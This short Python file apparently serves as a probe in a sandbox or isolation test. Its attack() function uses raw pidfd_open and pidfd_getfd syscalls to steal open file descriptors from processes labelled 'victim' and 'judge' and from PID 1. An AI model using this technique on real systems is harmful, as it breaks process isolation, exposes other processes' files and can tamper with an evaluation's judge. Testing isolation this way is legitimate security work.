"""Takes an open file out of another process."""
# ruff: noqa

import ctypes


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (FACTS["victim"], FACTS["judge"], 1):
        handle = libc.syscall(434, pid, 0)
        if handle >= 0:
            for number in range(16):
                if libc.syscall(438, handle, number, 0) >= 0:
                    return FACTS["won"]
